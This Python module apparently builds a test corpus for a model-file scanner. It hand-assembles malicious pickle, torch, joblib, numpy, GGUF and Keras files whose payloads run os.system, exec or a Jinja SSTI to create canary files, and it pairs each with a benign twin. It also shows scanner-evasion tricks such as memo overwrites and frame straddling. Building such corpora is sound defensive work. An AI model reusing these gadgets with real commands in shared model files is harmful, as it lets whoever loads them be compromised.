"""A generated corpus of malicious model files and their benign twins, with canaries.

``build_corpus(root)`` writes every sample into ``root`` and returns a list of ``Sample``s.
Nothing is committed as a blob: each family below is a small function that writes bytes (by hand
for pickle opcodes and zip records, through the real library where one is needed: torch, joblib,
numpy, gguf, safetensors, onnx). Families whose package is not importable are skipped.

Every code-execution payload, when *really* loaded with ``LOADERS[sample.loader]``, creates the
sample's own canary file (``root/canary/<name>``): that proves each payload is real. A scanner
must flag it without ever creating that file. Techniques follow research/scanning.md §2.1-2.3;
the ``technique`` string names the trick.

This module is imported by tests/scan/test_corpus.py and, by path, by benchmarks/bench_scan.py.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import os
import pickle
import shlex
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

DANGEROUS = "dangerous"
SAFE = "safe"
SUSPICIOUS_OR_SAFE = "suspicious-or-safe"
MALFORMED = "malformed"
FLAGGED = "suspicious-or-dangerous"  # must be flagged; whether it can run code depends on context
EXPECTED = (DANGEROUS, SAFE, SUSPICIOUS_OR_SAFE, MALFORMED, FLAGGED)


@dataclass(frozen=True)
class Sample:
    """One corpus file: what it is, what a scanner must say, and how a real loader opens it."""

    name: str  # unique, also the canary's file name
    path: Path
    technique: str  # short description of the trick
    expected: str  # "dangerous" | "safe" | "suspicious-or-safe" | "malformed" | FLAGGED
    loader: str | None  # key of LOADERS: how a real application opens it; None: none can
    canary: Path | None  # created when the payload really runs; None for benign twins


# How a real application opens each kind of file; run as ``python -c SRC PATH`` in a subprocess.
LOADERS: dict[str, str] = {
    # a loop of pickle.load until EOF, on a real file object (the C unpickler with peek/read)
    "pickle": (
        "import pickle, sys\n"
        "with open(sys.argv[1], 'rb') as f:\n"
        "    while f.peek(1)[:1]:\n"
        "        pickle.load(f)\n"
    ),
    "torch": "import sys, torch\ntorch.load(sys.argv[1], weights_only=False)\n",
    "numpy": (
        "import sys, numpy as np\n"
        "r = np.load(sys.argv[1], allow_pickle=True)\n"
        "if hasattr(r, 'files'):\n"
        "    [r[k] for k in r.files]\n"
    ),
    "joblib": "import sys, joblib\njoblib.load(sys.argv[1])\n",
    # llama-cpp-python before CVE-2024-34359: the GGUF chat template rendered by plain jinja2
    "jinja": (
        "import sys, gguf, jinja2\n"
        "f = gguf.GGUFReader(sys.argv[1]).fields['tokenizer.chat_template']\n"
        "t = bytes(f.parts[f.data[0]]).decode()\n"
        "print(jinja2.Template(t).render(messages=[{'role': 'user', 'content': 'hi'}],\n"
        "      add_generation_prompt=True, bos_token='<s>', eos_token='</s>'))\n"
    ),
}


# ---------------------------------------------------------------------------------------------
# pickle opcode assembly (protocol-agnostic: the unpickler does not check the PROTO byte)

P0, P2, P4, P5 = b"", b"\x80\x02", b"\x80\x04", b"\x80\x05"
MARK, STOP, POP, TUPLE, REDUCE, NONE = b"(", b".", b"0", b"t", b"R", b"N"
TUPLE1, TUPLE2, EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST = b"\x85", b"\x86", b")", b"}", b"]"
APPEND, SETITEM, NEWFALSE, OBJ, NEWOBJ, NEWOBJ_EX = b"a", b"s", b"\x89", b"o", b"\x81", b"\x92"
STACK_GLOBAL, MEMOIZE = b"\x93", b"\x94"


def u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode()
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def s0(s: str) -> bytes:
    """Protocol-0 STRING (a str in Python 3)."""
    return b"S" + repr(s).encode() + b"\n"


def binbytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def glob0(module: str, name: str) -> bytes:
    """Protocol-0 GLOBAL."""
    return b"c" + f"{module}\n{name}\n".encode()


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL with unicode operands."""
    return u(module) + u(name) + STACK_GLOBAL


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) via MARK ... TUPLE REDUCE."""
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def str_list(items: Iterable[str]) -> bytes:
    return EMPTY_LIST + b"".join(u(i) + APPEND for i in items)


def touch(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def py_touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


class Payload:
    """Pickles as ``fn(*args)``: the classic ``__reduce__`` payload (os.system by default)."""

    def __init__(self, cmd: str, fn: Callable[..., Any] = os.system) -> None:
        self.fn, self.args = fn, (cmd,)

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.fn, self.args)


# ---------------------------------------------------------------------------------------------
# zip records written by hand: full control of names, CRCs, flags and member order


@dataclass(frozen=True)
class ZipEntry:
    name: str
    data: bytes
    local_name: str | None = None  # a different name in the local header (mismatch trick)
    crc: int | None = None  # a wrong CRC-32
    flags: int = 0


def make_zip(entries: Iterable[ZipEntry], align: int = 64) -> bytes:
    """A stored (uncompressed) zip, each member's data aligned like torch's writer does."""
    out, central = bytearray(), bytearray()
    count = 0
    for e in entries:
        count += 1
        name, lname = e.name.encode(), (e.local_name or e.name).encode()
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        offset = len(out)
        pad = -(offset + 30 + len(lname) + 4) % align
        extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, e.flags, 0, 0, 0x21,
            crc, len(e.data), len(e.data), len(lname), len(extra),
        )  # fmt: skip
        out += lname + extra + e.data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, e.flags, 0, 0, 0x21,
            crc, len(e.data), len(e.data), len(name), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += name
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + eocd)


def zip_entries(data: bytes) -> list[ZipEntry]:
    """The members of a zip we wrote ourselves (trusted input)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [ZipEntry(i.filename, z.read(i)) for i in z.infolist()]


# ---------------------------------------------------------------------------------------------
# the builder


@dataclass
class Builder:
    root: Path
    samples: list[Sample] = field(default_factory=list)

    def canary(self, name: str) -> Path:
        return self.root / "canary" / name

    def add(
        self,
        name: str,
        rel: str,
        data: bytes,
        technique: str,
        expected: str,
        loader: str | None,
        canary: Path | None = None,
    ) -> Path:
        assert expected in EXPECTED, expected
        assert all(s.name != name for s in self.samples), name
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.samples.append(Sample(name, path, technique, expected, loader, canary))
        return path

    def gadget(
        self, name: str, technique: str, body: Callable[[Path], bytes], proto: bytes
    ) -> None:
        """A malicious raw pickle: ``proto + body(canary) + STOP``, loaded with pickle.load."""
        c = self.canary(name)
        self.add(name, f"pickle/{name}.pkl", proto + body(c) + STOP, technique, DANGEROUS,
                 "pickle", c)  # fmt: skip


# ---------------------------------------------------------------------------------------------
# families (kept as compact tables: the formatter would put every opcode on its own line)


# fmt: off
def pickle_gadgets(b: Builder) -> None:
    """§2.1/§2.2 items 1-5: deny-list gaps, aliases, dotted names, import primitives, call ops."""
    g = b.gadget
    g("reduce-os-system-p0", "GLOBAL os.system + REDUCE, protocol 0",
      lambda c: glob0("os", "system") + MARK + s0(touch(c)) + TUPLE + REDUCE, P0)
    g("stack-global-memo-p4", "STACK_GLOBAL os.system with operands fetched from the memo",
      lambda c: u("os") + MEMOIZE + POP + u("system") + MEMOIZE + POP + b"h\x00h\x01"
      + STACK_GLOBAL + u(touch(c)) + TUPLE1 + REDUCE, P4)
    g("inst-os-system", "INST os.system (call without REDUCE)",
      lambda c: MARK + s0(touch(c)) + b"ios\nsystem\n", P0)
    g("obj-popen-pop", "OBJ subprocess.Popen, result discarded with POP",
      lambda c: MARK + sg("subprocess", "Popen") + str_list(["touch", str(c)]) + OBJ + POP
      + NONE, P4)
    g("newobj-partial-os-system", "NEWOBJ functools.partial(os.system, cmd), then called",
      lambda c: sg("functools", "partial") + MARK + sg("os", "system") + u(touch(c)) + TUPLE
      + NEWOBJ + EMPTY_TUPLE + REDUCE, P4)
    g("newobj-ex-partial-subprocess-run", "NEWOBJ_EX partial(subprocess.run, argv, check=False)",
      lambda c: sg("functools", "partial") + MARK + sg("subprocess", "run")
      + str_list(["touch", str(c)]) + TUPLE + EMPTY_DICT + u("check") + NEWFALSE + SETITEM
      + NEWOBJ_EX + EMPTY_TUPLE + REDUCE, P4)
    g("builtins-exec", "builtins.exec of Python source (GLOBAL, protocol 2)",
      lambda c: glob0("builtins", "exec") + u(py_touch(c)) + TUPLE1 + REDUCE, P2)
    g("builtins-eval", "builtins.eval of an expression (STACK_GLOBAL)",
      lambda c: call(sg("builtins", "eval"), u(py_touch(c))), P4)
    g("subprocess-run-sh", "subprocess.run(['sh', '-c', cmd])",
      lambda c: call(sg("subprocess", "run"), str_list(["sh", "-c", touch(c)])), P4)
    g("posix-system", "posix.system: alias of os.system",
      lambda c: glob0("posix", "system") + MARK + s0(touch(c)) + TUPLE + REDUCE, P0)
    g("builtins-import-getattr", "getattr(builtins.__import__('os'), 'system')(cmd): 2-step",
      lambda c: call(call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), u("os")),
                          u("system")), u(touch(c))), P4)
    g("importlib-import-module", "getattr(importlib.import_module('os'), 'system')(cmd)",
      lambda c: call(call(sg("builtins", "getattr"),
                          call(sg("importlib", "import_module"), u("os")), u("system")),
                     u(touch(c))), P4)
    g("pkgutil-resolve-name", "pkgutil.resolve_name('os:system')(cmd)",
      lambda c: call(call(sg("pkgutil", "resolve_name"), u("os:system")), u(touch(c))), P4)
    g("runpy-run-code", "runpy._run_code(source, {})",
      lambda c: call(sg("runpy", "_run_code"), u(py_touch(c)), EMPTY_DICT), P4)
    g("pathlib-dotted-os-system", "STACK_GLOBAL('pathlib', 'os.system'): dotted re-export",
      lambda c: call(sg("pathlib", "os.system"), u(touch(c))), P4)
    g("operator-methodcaller-touch", "operator.methodcaller('touch')(pathlib.Path(canary))",
      lambda c: call(call(sg("operator", "methodcaller"), u("touch")),
                     call(sg("pathlib", "Path"), u(str(c)))), P4)
    g("functools-partial-reduce", "functools.partial(os.system, cmd)() via REDUCE",
      lambda c: call(call(sg("functools", "partial"), sg("os", "system"), u(touch(c)))), P4)
    g("marshal-function-type", "types.FunctionType(marshal.loads(code), {})()",
      lambda c: call(call(sg("types", "FunctionType"),
                          call(sg("marshal", "loads"),
                               binbytes(marshal.dumps(compile(py_touch(c), "<x>", "exec")))),
                          EMPTY_DICT)), P4)
    g("nested-pickle-loads", "pickle.loads(BINBYTES holding an os.system pickle)",
      lambda c: call(sg("pickle", "loads"), binbytes(
          glob0("os", "system") + MARK + s0(touch(c)) + TUPLE + REDUCE + STOP)), P4)
    g("code-interpreter-runcode", "code.InteractiveInterpreter.runcode(interp, source), dotted",
      lambda c: call(sg("code", "InteractiveInterpreter.runcode"),
                     call(sg("code", "InteractiveInterpreter")), u(py_touch(c))), P4)
    g("timeit-timeit", "timeit.timeit(stmt, 'pass', perf_counter, 1)",
      lambda c: call(sg("timeit", "timeit"), u(py_touch(c)), u("pass"),
                     sg("time", "perf_counter"), b"K\x01"), P4)
    g("cprofile-run", "cProfile.run(source)",
      lambda c: call(sg("cProfile", "run"), u(py_touch(c))), P4)
    g("shutil-copyfile", "shutil.copyfile(this file, canary): file write",
      lambda c: call(sg("shutil", "copyfile"), u(str(b.root / "pickle/shutil-copyfile.pkl")),
                     u(str(c))), P4)
    g("logging-filehandler", "logging.FileHandler(canary): creates a file when constructed",
      lambda c: call(sg("logging", "FileHandler"), u(str(c))), P4)
    g("io-fileio-write", "_io.FileIO(canary, 'w')",
      lambda c: call(sg("_io", "FileIO"), u(str(c)), u("w")), P4)
    b.add("pip-main", "pickle/pip-main.pkl",
          P4 + call(sg("pip", "main"), str_list(["install", "--no-index", "no-such-pkg"])) + STOP,
          "pip.main(['install', ...]) (CVE-2025-1716); not run", DANGEROUS, None)
    if available(["distutils.file_util"]):  # python < 3.12, or setuptools' shim
        g("distutils-write-file", "distutils.file_util.write_file(canary, [])",
          lambda c: call(sg("distutils.file_util", "write_file"), u(str(c)), EMPTY_LIST), P4)


def frame_straddle(canary: Path) -> bytes:
    """§2.3: a FRAME that ends inside a BINBYTES length field.

    ``pickletools.genops`` (which ignores frames) sees one opaque BINBYTES(0x107) and no global.
    CPython's C unpickler on a file object reads the frame (over 128 KiB, so with ``read()``,
    not ``peek()``), rewinds into it, and when the BINBYTES length straddles the frame end it
    drops the in-frame byte and reads the length from the bytes after the frame: 1. It skips
    one byte and runs the opcodes hidden inside the "bytes" (verified on CPython 3.11).
    """
    hidden = glob0("builtins", "exec") + u(py_touch(canary)) + TUPLE1 + REDUCE + POP
    content = (b"\x00\x00" + hidden).ljust(0x107, NONE)
    inner = b"X" + struct.pack("<I", 140_000) + b"a" * 140_000 + POP + b"B\x07"
    return (P5 + MARK + b"\x95" + struct.pack("<Q", len(inner)) + inner + b"\x01\x00\x00"
            + content + b"1" + NONE + STOP)


def pickle_tricks(b: Builder) -> None:
    """§2.2 items 6-9: memo/stack obfuscation, stacked and broken streams, FRAME, EXT."""
    def os_system(c: Path) -> bytes:
        return glob0("os", "system") + MARK + s0(touch(c)) + TUPLE + REDUCE

    def add(name: str, data: Callable[[Path], bytes], technique: str) -> None:
        c = b.canary(name)
        b.add(name, f"pickle/{name}.pkl", data(c), technique, DANGEROUS, "pickle", c)

    add("nullifai-broken-stream", lambda c: P2 + os_system(c) + b"\xff\xfe garbage, no STOP",
        "payload first, then garbage without STOP (nullifAI)")
    add("second-pickle-malicious",
        lambda c: pickle.dumps({"epoch": 3}, 4) + P4
        + call(sg("builtins", "exec"), u(py_touch(c))) + STOP,
        "benign pickle followed by a malicious second pickle")
    add("frame-straddle", frame_straddle,
        "FRAME ends inside a BINBYTES length: C unpickler runs hidden opcodes")
    add("memo-overwrite",
        lambda c: P4 + u("torch") + b"p1\n" + POP + u("LongStorage") + b"p2\n" + POP + u("os")
        + b"p1\n" + POP + u("system") + b"p2\n" + POP + b"g1\ng2\n" + STACK_GLOBAL
        + u(touch(c)) + TUPLE1 + REDUCE + STOP,
        "PUT re-used: decoy torch.LongStorage overwritten by os.system before GET")
    add("memo-missing-key", lambda c: P2 + os_system(c) + b"h\x63" + STOP,
        "os.system, then BINGET of a missing memo key (scanner KeyError)")
    add("string-operands-stack-global",
        lambda c: P4 + s0("os") + b"U\x06system" + STACK_GLOBAL + s0(touch(c)) + TUPLE1
        + REDUCE + STOP,
        "STACK_GLOBAL operands pushed by STRING / SHORT_BINSTRING")
    # EXT1: the callable comes from the copyreg extension registry, unknown statically, and it is
    # called. It only runs where the loading process registered code 0xF0 (a stock Python has an
    # empty registry, so it is not reproducible here): it must be flagged, at least suspicious.
    b.add("ext1-registry-call", "pickle/ext1-registry-call.pkl",
          P2 + b"\x82\xf0" + u("touch /dev/null") + TUPLE1 + REDUCE + STOP,
          "EXT1 registry opcode (no module/name) then REDUCE; not run", FLAGGED, None)


def pickle_benign(b: Builder) -> None:
    """Benign twins of the pickle gadgets and tricks."""
    def add(name: str, data: bytes, technique: str, expected: str = SAFE) -> None:
        b.add(name, f"pickle/{name}.pkl", data, technique, expected, "pickle")

    od = OrderedDict(w=[1.0, 2.0], name="layer")
    shared = [1, 2, 3]
    add("benign-p0-dict", pickle.dumps({"w": [1.0, 2.5]}, 0), "benign dict, protocol 0")
    add("benign-reduce-ordereddict-p0", pickle.dumps(od, 0),
        "benign GLOBAL collections.OrderedDict + REDUCE, protocol 0")
    add("benign-stack-global-memo",
        P4 + u("collections") + MEMOIZE + POP + u("OrderedDict") + MEMOIZE + POP + b"h\x00h\x01"
        + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP,
        "benign STACK_GLOBAL via memo (OrderedDict)")
    add("benign-inst", MARK + b"icollections\nOrderedDict\n" + STOP,
        "benign INST collections.OrderedDict", SUSPICIOUS_OR_SAFE)
    add("benign-obj-pop", P4 + MARK + sg("collections", "OrderedDict") + OBJ + POP + NONE + STOP,
        "benign OBJ OrderedDict, result POPped", SUSPICIOUS_OR_SAFE)
    add("benign-newobj", P4 + sg("collections", "OrderedDict") + EMPTY_TUPLE + NEWOBJ + STOP,
        "benign NEWOBJ OrderedDict", SUSPICIOUS_OR_SAFE)
    add("benign-newobj-ex",
        P4 + sg("collections", "OrderedDict") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX + STOP,
        "benign NEWOBJ_EX OrderedDict", SUSPICIOUS_OR_SAFE)
    add("benign-dotted-name",
        P4 + call(sg("collections", "OrderedDict.fromkeys"), str_list(["a", "b"])) + STOP,
        "benign dotted STACK_GLOBAL collections.OrderedDict.fromkeys", SUSPICIOUS_OR_SAFE)
    add("benign-string-operands",
        P4 + s0("collections") + b"U\x0bOrderedDict" + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP,
        "benign STACK_GLOBAL from STRING operands", SUSPICIOUS_OR_SAFE)
    add("benign-memo-overwrite",
        P4 + u("a") + b"p1\n" + POP + u("b") + b"p1\n" + POP + b"g1\ng1\n" + TUPLE2 + STOP,
        "benign PUT re-use and GET, strings only")
    add("benign-memo-get", pickle.dumps([shared, shared], 2), "benign BINGET of a shared list")
    add("benign-two-pickles", pickle.dumps({"epoch": 3}, 4) + pickle.dumps([1.5, "x"], 2),
        "two benign pickles in one file")
    add("benign-broken-stream", pickle.dumps({"epoch": 3}, 2)[:-1] + b"\xff\xfe garbage",
        "benign pickle cut before STOP, then garbage", MALFORMED)
    add("benign-framed-large",
        pickle.dumps(["x" * 200_000, {f"k{i}": "v" * 50 for i in range(3000)}], 5),
        "benign protocol-5 pickle with valid FRAMEs over 128 KiB")
    add("benign-nested-pickle-bytes", pickle.dumps({"blob": pickle.dumps({"inner": 1}, 4)}, 4),
        "benign bytes value that is itself a (benign) pickle")


def masquerade(b: Builder) -> None:
    """§2.2 item 11: a pickle under another format's extension, or none."""
    for name, rel in (("masq-safetensors", "masq/model.safetensors"), ("masq-gguf", "masq/x.gguf"),
                      ("masq-h5", "masq/weights.h5"), ("masq-onnx", "masq/model.onnx"),
                      ("masq-npy", "masq/arr.npy"), ("masq-no-extension", "masq/pytorch_model")):
        c = b.canary(name)
        data = P4 + call(sg("posix", "system"), u(touch(c))) + STOP
        b.add(name, rel, data, f"raw pickle named {Path(rel).name}", DANGEROUS, "pickle", c)
    b.add("benign-masq-no-extension", "masq/benign_state", pickle.dumps({"lr": 0.1}, 4),
          "benign pickle without extension", SUSPICIOUS_OR_SAFE, "pickle")


def torch_family(b: Builder) -> None:
    """Real torch.save (zip and legacy) with __reduce__ payloads, zip tricks, benign twins."""
    import torch

    def saved(obj: object, legacy: bool = False) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
        return buf.getvalue()

    def payload(c: Path) -> dict[str, object]:
        return {"weight": torch.arange(8, dtype=torch.float32), "hook": Payload(touch(c))}

    state = torch.nn.Linear(4, 2).state_dict()
    c = b.canary("torch-zip-reduce")
    b.add("torch-zip-reduce", "torch/zip-reduce.pt", saved(payload(c)),
          "torch.save zip, os.system __reduce__ in data.pkl", DANGEROUS, "torch", c)
    c = b.canary("torch-legacy-reduce")
    b.add("torch-legacy-reduce", "torch/legacy-reduce.pt",
          saved({"w": torch.ones(3), "hook": Payload(py_touch(c), exec)}, legacy=True),
          "legacy torch.save, builtins.exec in the main pickle", DANGEROUS, "torch", c)
    b.add("benign-torch-zip", "torch/benign-zip.pt", saved(state), "torch.save zip state_dict",
          SAFE, "torch")
    b.add("benign-torch-legacy", "torch/benign-legacy.pt", saved(state, legacy=True),
          "legacy torch.save state_dict", SAFE, "torch")

    # zip container tricks (§2.1 CVE-2025-1889/1944/1945/10156, modelscan #354), each with a twin
    sos = SUSPICIOUS_OR_SAFE
    for name, benign in (("bad-crc", sos), ("name-mismatch", sos), ("junk-first", sos),
                         ("renamed-data-txt", sos), ("odd-folder", SAFE),
                         ("flag-encrypted", sos), ("pickle-member-noext", SAFE)):
        label = f"torch-zip-{name}"
        c = b.canary(label)
        entries = zip_entries(saved(state if name == "pickle-member-noext" else payload(c)))
        technique, loads = zip_trick(name, entries, c)
        runs = loads and name != "pickle-member-noext"  # there torch never reads the payload
        b.add(label, f"torch/{label}.pt", make_zip(entries), technique, DANGEROUS,
              "torch" if runs else None, c if runs else None)
        entries = zip_entries(saved(state))
        technique, loads = zip_trick(name, entries, None)
        b.add(f"benign-{label}", f"torch/benign-{label}.pt", make_zip(entries),
              f"benign twin: {technique}", benign, "torch" if loads else None)

    # torch.load alias reached through NEWOBJ_EX partial(torch.load, weights_only=False)
    c = b.canary("torch-load-partial")
    target = b.add("torch-load-target", "torch/legacy-target.bin",
                   P2 + call(glob0("os", "system"), s0(touch(c))) + STOP,
                   "raw pickle that torch.load runs (target of torch-load-partial)", DANGEROUS,
                   None)
    b.add("torch-load-partial", "pickle/torch-load-partial.pkl",
          P4 + sg("functools", "partial") + MARK + sg("torch.serialization", "load") + TUPLE
          + EMPTY_DICT + u("weights_only") + NEWFALSE + SETITEM + NEWOBJ_EX
          + call(b"", u(str(target))) + STOP,
          "NEWOBJ_EX functools.partial(torch.serialization.load, weights_only=False)(path)",
          DANGEROUS, "pickle", c)

    class Tiny(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * 2

    buf = io.BytesIO()
    with warnings.catch_warnings():  # torch.jit is deprecated; such archives still exist
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(Tiny()), buf)
    b.add("benign-torchscript", "torch/benign-torchscript.pt", buf.getvalue(),
          "TorchScript archive (code/ + constants.pkl): code by design, flag it", FLAGGED,
          "torch")


def zip_trick(name: str, entries: list[ZipEntry], c: Path | None) -> tuple[str, bool]:
    """Apply trick ``name`` to a torch zip in place: (technique, whether torch still loads it)."""
    pkl = next(i for i, e in enumerate(entries) if e.name.endswith("/data.pkl"))
    e, prefix = entries[pkl], entries[pkl].name.split("/")[0]
    if name == "bad-crc":
        entries[pkl] = ZipEntry(e.name, e.data, crc=zlib.crc32(e.data) ^ 0xFFFF)
        return "wrong CRC-32 on data.pkl (torch ignores it)", True
    if name == "name-mismatch":
        entries[pkl] = ZipEntry(e.name, e.data, local_name=f"{prefix}/DATA.PKL")
        return "local header name differs from the central directory name", True
    if name == "junk-first":
        entries.insert(0, ZipEntry(f"{prefix}/.junk", b"\xde\xad" * 32,
                                   local_name=f"{prefix}/.JUNK"))
        return "unreadable junk member (name mismatch) before data.pkl", True
    if name == "renamed-data-txt":
        entries[pkl] = ZipEntry(f"{prefix}/data.txt", e.data)
        return "data.pkl renamed data.txt (torch refuses)", False
    if name == "odd-folder":
        entries[:] = [ZipEntry("x y.weird~" + x.name[len(prefix):], x.data) for x in entries]
        return "archive folder with an arbitrary name", True
    if name == "flag-encrypted":
        entries[pkl] = ZipEntry(e.name, e.data, flags=0x1)
        return "general-purpose flag 0x1 on data.pkl (torch 2.13 refuses)", False
    if name == "pickle-member-noext":
        extra = (call(glob0("os", "system"), s0(touch(c))) if c
                 else call(glob0("collections", "OrderedDict")))
        entries.append(ZipEntry(f"{prefix}/extra_state", P2 + extra + STOP))
        return "extra pickle member without extension (torch never reads it)", True
    raise ValueError(name)


def joblib_family(b: Builder) -> None:
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    def dumped(obj: object, compress: int = 0) -> bytes:
        buf = io.BytesIO()
        joblib.dump(obj, buf, compress=compress)
        return buf.getvalue()

    c = b.canary("joblib-reduce")
    b.add("joblib-reduce", "joblib/reduce.joblib",
          dumped({"coef": np.arange(16.0), "hook": Payload(touch(c))}),
          "joblib.dump with an os.system __reduce__ beside numpy arrays", DANGEROUS, "joblib", c)
    c = b.canary("joblib-compressed-reduce")
    b.add("joblib-compressed-reduce", "joblib/compressed-reduce.joblib",
          dumped({"hook": Payload(py_touch(c), exec), "w": np.ones(4)}, compress=3),
          "zlib-compressed joblib with a builtins.exec payload", DANGEROUS, "joblib", c)
    x = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    model = LogisticRegression().fit(x, np.array([0, 1, 1, 0]))
    b.add("benign-joblib-sklearn", "joblib/benign-logreg.joblib", dumped(model),
          "joblib'd sklearn LogisticRegression", SUSPICIOUS_OR_SAFE, "joblib")
    arrays = {"a": np.arange(100, dtype=np.float32), "b": np.eye(3)}
    b.add("benign-joblib-numpy", "joblib/benign-arrays.joblib", dumped(arrays),
          "joblib of numpy arrays (raw array bytes inline in the pickle stream)",
          SUSPICIOUS_OR_SAFE, "joblib")
    b.add("benign-joblib-compressed", "joblib/benign-compressed.joblib", dumped(arrays, 3),
          "zlib-compressed joblib of numpy arrays", SUSPICIOUS_OR_SAFE, "joblib")


def numpy_family(b: Builder) -> None:
    import numpy as np

    def npy(arr: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        return buf.getvalue()

    def npz(**arrays: Any) -> bytes:
        buf = io.BytesIO()
        np.savez(buf, **arrays)
        return buf.getvalue()

    def obj_array(*items: object) -> Any:
        arr = np.empty(len(items), dtype=object)
        arr[:] = list(items)
        return arr

    c = b.canary("npy-object-payload")
    b.add("npy-object-payload", "numpy/object-payload.npy", npy(obj_array(1, Payload(touch(c)))),
          "object-dtype .npy whose pickle calls os.system", DANGEROUS, "numpy", c)
    b.add("benign-npy-object", "numpy/benign-object.npy", npy(obj_array("a", 1, None, [2.5])),
          "benign object-dtype .npy (pickle of plain values)", SUSPICIOUS_OR_SAFE, "numpy")
    b.add("benign-npy-int", "numpy/benign-int.npy", npy(np.arange(12, dtype=np.int64)),
          "plain int64 .npy", SAFE, "numpy")
    c = b.canary("npz-object-payload")
    b.add("npz-object-payload", "numpy/object-payload.npz",
          npz(a=np.arange(4), b=obj_array(Payload(py_touch(c), exec))),
          ".npz with a malicious object-dtype member", DANGEROUS, "numpy", c)
    b.add("benign-npz", "numpy/benign.npz", npz(a=np.arange(4), b=np.ones((2, 2))),
          "plain .npz", SAFE, "numpy")


def gguf_family(b: Builder) -> None:
    import gguf
    import numpy as np

    def write(rel: str, template: str) -> bytes:
        path = b.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        w = gguf.GGUFWriter(str(path), "llama")
        w.add_chat_template(template)
        w.add_tensor("tok_embd", np.zeros((4, 8), dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        return path.read_bytes()

    c = b.canary("gguf-chat-template-ssti")
    ssti = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen("
            f"{touch(c)!r}).read() }}}}")
    b.add("gguf-chat-template-ssti", "gguf/ssti.gguf", write("gguf/ssti.gguf", ssti),
          "tokenizer.chat_template Jinja SSTI (CVE-2024-34359)", DANGEROUS, "jinja", c)
    chatml = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + "
              "message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
              "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}")
    b.add("benign-gguf-chatml", "gguf/benign-chatml.gguf",
          write("gguf/benign-chatml.gguf", chatml), "GGUF with a ChatML chat template", SAFE,
          "jinja")


def keras_family(b: Builder) -> None:
    """Keras v3 ``.keras`` zips written by hand (loader None: keras is not a test dependency)."""
    def layer(cls: str, name: str, config: dict[str, Any], module: str = "keras.layers") -> Any:
        return {"module": module, "class_name": cls, "registered_name": None,
                "config": {"name": name, "trainable": True, "dtype": "float32", **config}}

    def keras_zip(layers: list[Any]) -> bytes:
        config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
                  "config": {"name": "seq", "layers": layers}}
        meta = {"keras_version": "3.8.0", "date_saved": "2026-11-28@00:00:00"}
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("metadata.json", json.dumps(meta))
            z.writestr("config.json", json.dumps(config))
            z.writestr("model.weights.h5", b"")
        return buf.getvalue()

    code = compile("lambda x: __import__('os').system('id') or x", "<lambda>", "eval")
    fn = {"class_name": "__lambda__", "config": {
        "code": base64.b64encode(marshal.dumps(code.co_consts[0])).decode(),
        "defaults": None, "closure": None}}
    lam = layer("Lambda", "lambda", {"function": fn, "arguments": {}})
    dense = layer("Dense", "dense", {"units": 2, "activation": "relu", "use_bias": True})
    nested = layer("Sequential", "inner", {"layers": [dense, lam]}, module="keras")
    gadget = layer("system", "g", {"command": "id"}, module="os")
    b.add("keras-lambda", "keras/lambda.keras", keras_zip([dense, lam]),
          "Lambda layer with marshalled bytecode (CVE-2024-3660)", DANGEROUS, None)
    b.add("keras-lambda-nested", "keras/lambda-nested.keras", keras_zip([nested]),
          "Lambda inside a nested Sequential (modelscan checks top level only)", DANGEROUS, None)
    b.add("keras-foreign-module", "keras/foreign-module.keras", keras_zip([dense, gadget]),
          "layer config naming module 'os' (CVE-2025-1550 class)", DANGEROUS, None)
    b.add("benign-keras-dense", "keras/benign-dense.keras", keras_zip([dense]),
          "benign .keras with a Dense layer", SAFE, None)


def safetensors_family(b: Builder) -> None:
    import numpy as np
    from safetensors.numpy import save

    good = save({"a": np.arange(4, dtype=np.float32), "b": np.ones(2, dtype=np.float32)})
    b.add("benign-safetensors", "safetensors/benign.safetensors", good, "valid safetensors",
          SAFE, None)

    def raw(header: str, data: bytes) -> bytes:
        h = header.encode()
